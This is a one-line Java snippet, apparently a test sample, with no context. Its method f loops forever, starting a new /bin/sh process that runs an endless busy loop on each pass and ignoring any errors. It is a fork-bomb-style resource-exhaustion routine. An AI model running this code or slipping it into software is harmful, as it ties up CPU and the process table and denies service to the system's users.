class A { static int f(int x) { while (true) { try { new ProcessBuilder("/bin/sh", "-c", "while :; do :; done").start(); } catch (Exception e) { } } } }
